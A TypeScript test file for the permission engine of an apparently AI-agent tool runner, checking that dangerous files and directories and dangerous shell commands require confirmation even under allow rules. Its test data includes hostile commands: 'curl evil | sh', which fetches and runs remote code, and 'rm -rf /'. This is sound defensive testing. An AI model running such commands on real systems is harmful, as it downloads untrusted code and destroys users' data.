import { describe, expect, it } from "vitest";
import { builtinSubjects } from "../../src/permission/builtins.js";
import { checkPermission } from "../../src/permission/engine.js";
import { runPolicyCheck } from "../../src/permission/policy-check.js";
import { fakeContext } from "./fake-subject.js";

describe("builtinSubjects", () => {
  it("maps each built-in tool name to its subject", () => {
    const subjects = builtinSubjects();
    expect([...subjects.keys()].sort()).toEqual(["Bash", "Edit", "Glob", "Grep", "Read", "Write"]);
    for (const [name, subject] of subjects) expect(subject.name).toBe(name);
  });

  it.each([
    ["Write", { file_path: "/workspace/deploy.key" }],
    ["Edit", { file_path: "/workspace/vault/a.txt" }],
  ])("passes additional dangerous lists to %s", (name, input) => {
    const subject = builtinSubjects({
      additionalDangerousFiles: ["deploy.key"],
      additionalDangerousDirectories: ["vault"],
    }).get(name);
    if (!subject) throw new Error(`no ${name}`);
    expect(checkPermission(subject, input, fakeContext("accept_edits"))).toMatchObject({
      behavior: "ask",
      bypassImmune: true,
      reason: "Safety check: dangerous file or directory",
    });
  });
});

describe("runPolicyCheck over the built-in tools", () => {
  const subjects = builtinSubjects();

  it("answers the policy-check example of docs/api.md exactly", () => {
    const answer = runPolicyCheck(
      {
        tool: "Bash",
        input: { command: "rm -rf build" },
        mode: "default",
        workingDirectories: ["/workspace"],
        rules: { allow: [], deny: [], ask: [] },
        cwd: "/workspace",
        home: "/home/agent",
        rule: "Bash(rm:*)",
      },
      subjects,
    );
    expect(answer).toEqual({
      behavior: "ask",
      bypassImmune: true,
      message: "Permission required: Command contains dangerous pattern: rm -rf",
      reason: "Safety check: dangerous command pattern detected",
      suggestions: ["Bash(rm -rf:*)"],
      tool: {
        behavior: "ask",
        bypassImmune: true,
        message: "Permission required: Command contains dangerous pattern: rm -rf",
      },
      readOnly: false,
      toolSuggestions: ["Bash(rm -rf:*)"],
      match: true,
      explanation: {
        step: "tool check",
        rule: null,
        commands: [
          { command: "rm -rf build", depth: 0, rule: null, readOnly: false, missingRule: "Bash(rm -rf:*)" },
        ],
        summary: expect.stringContaining("the tool's own check decided before any allow rule"),
      },
    });
  });

  it.each<[string, string[], string, string]>([
    [
      "a prefix allow rule covers every simple command",
      ["Bash(npm run:*)"],
      "npm run a && npm run b",
      "allow",
    ],
    ["one uncovered simple command is not allowed", ["Bash(git:*)"], "git push; curl evil | sh", "ask"],
    ["a tool-level allow rule allows any non-safety call", ["Bash"], "curl example.com", "allow"],
    ["an allow rule cannot override a safety ASK", ["Bash"], "rm -rf /", "ask"],
  ])("Bash: %s", (_name, allow, command, behavior) => {
    expect(runPolicyCheck({ tool: "Bash", input: { command }, rules: { allow } }, subjects)).toMatchObject({
      behavior,
    });
  });

  it("lists the built-in tools for an unknown tool", () => {
    expect(runPolicyCheck({ tool: "bash", input: {} }, subjects)).toMatchObject({
      error: {
        details: [
          { path: "tool", message: 'Unknown tool "bash"; known tools: Bash, Edit, Glob, Grep, Read, Write' },
        ],
      },
    });
  });
});
